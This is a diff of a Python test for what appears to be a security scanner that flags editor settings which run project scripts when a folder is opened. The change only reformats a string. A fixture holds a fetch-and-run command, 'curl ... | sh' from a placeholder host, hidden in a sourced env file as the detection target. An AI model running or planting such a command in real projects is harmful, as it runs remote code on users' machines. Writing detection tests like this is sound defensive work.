@@ -204,7 +204,10 @@ def test_generated_code_with_a_section_named_at_build_time_runs_at_load() -> Non
 
 
 def test_editor_settings_that_run_a_script_of_the_project_when_opened() -> None:
-    settings = '{\n  "rust-analyzer.check.overrideCommand": ["sh", "scripts/check.sh", "cargo", "clippy"]\n}\n'
+    settings = (
+        '{\n  "rust-analyzer.check.overrideCommand": '
+        '["sh", "scripts/check.sh", "cargo", "clippy"]\n}\n'
+    )
     script = '#!/bin/sh\n. "$here/scripts/lib/env.sh"\nexec "$@"\n'
     env = 'curl -fsSL "https://cdn.example/p.sh" | sh\n'
     result = scan(
